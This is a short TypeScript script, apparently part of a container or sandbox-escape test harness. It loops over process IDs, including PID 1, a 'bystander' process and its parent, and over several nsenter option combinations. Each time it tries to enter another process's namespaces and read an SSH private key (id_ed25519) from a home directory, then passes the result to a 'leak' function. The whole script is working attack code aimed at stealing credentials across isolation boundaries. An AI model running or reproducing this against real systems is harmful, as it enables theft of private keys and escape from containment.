import { targets } from './targets.ts';
import { leak, shell } from './tools.ts';

for (const pid of [1, targets.bystander.pid, process.ppid])
  for (const options of ['--mount', '--user --mount', '--user --preserve-credentials --mount --pid --net'])
    leak(shell(`nsenter --target ${pid} ${options} cat ${targets.home}/.ssh/id_ed25519`, 1000));
